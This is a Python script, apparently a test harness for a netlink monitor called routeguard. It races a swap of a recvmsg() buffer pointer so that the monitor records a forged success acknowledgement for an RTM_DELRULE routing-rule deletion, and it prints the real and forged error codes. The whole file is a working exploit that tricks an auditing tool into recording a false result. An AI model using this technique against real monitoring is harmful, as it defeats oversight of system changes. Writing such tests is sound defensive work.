"""A hostile receiver: tries to make routeguard record a result the kernel did not give.

Usage: forged_ack.py PRIORITY
One thread blocks in recvmsg() on a NETLINK_ROUTE socket with a msghdr whose iovec points at
buffer R. Meanwhile another thread repoints the msghdr's msg_iov at a second iovec whose buffer F
holds a forged NLMSG_ERROR (error 0: "done"), then sends RTM_DELRULE for PRIORITY with NLM_F_ACK.
The kernel copied the first iovec at the start of recvmsg(), so its real answer lands in R; a
reader that follows msg_iov again at the end of recvmsg() finds F. Prints "<pid> <seq> <real
error> <forged error>" (the real one from R; the forged one as still in F).
"""
import ctypes
import os
import socket
import struct
import sys
import threading
import time

RTM_DELRULE = 33
NLM_F_REQUEST = 0x1
NLM_F_ACK = 0x4
FRA_PRIORITY = 6
NLMSG_ERROR = 2


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.POINTER(Iovec)),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


prio = int(sys.argv[1])
seq = 777000 + os.getpid() % 1000
body = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 0, 0, 0, 0, 0)
payload = body + struct.pack("=HHI", 8, FRA_PRIORITY, prio)
request = struct.pack("=IHHII", 16 + len(payload), RTM_DELRULE, NLM_F_REQUEST | NLM_F_ACK, seq, 0) + payload

s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
s.bind((0, 0))
port = s.getsockname()[0]

real = ctypes.create_string_buffer(8192)
# The forged ack: nlmsghdr (len 36, NLMSG_ERROR, seq, our port), error 0, the request's header.
forged_bytes = struct.pack("=IHHII", 36, NLMSG_ERROR, 0, seq, port) + struct.pack("=i", 0) + request[:16]
forged = ctypes.create_string_buffer(forged_bytes, 8192)
iov_real = Iovec(ctypes.cast(real, ctypes.c_void_p), 8192)
iov_forged = Iovec(ctypes.cast(forged, ctypes.c_void_p), 8192)
msg = Msghdr(None, 0, ctypes.pointer(iov_real), 1, None, 0, 0)

libc = ctypes.CDLL(None, use_errno=True)
got = []


def receive():
    got.append(libc.recvmsg(s.fileno(), ctypes.byref(msg), 0))


reader = threading.Thread(target=receive)
reader.start()
time.sleep(0.3)  # the reader is blocked in recvmsg(), its iovec copied into the kernel
msg.iov = ctypes.pointer(iov_forged)
s.send(request)
reader.join(5)
if not got or got[0] <= 0:
    sys.exit(f"recvmsg returned {got}")
_, rtype, _, rseq, _ = struct.unpack_from("=IHHII", real.raw)
if rtype != NLMSG_ERROR or rseq != seq:
    sys.exit(f"unexpected real reply type {rtype} seq {rseq}")
(real_error,) = struct.unpack_from("=i", real.raw, 16)
(forged_error,) = struct.unpack_from("=i", forged.raw, 16)
print(os.getpid(), seq, real_error, forged_error, flush=True)
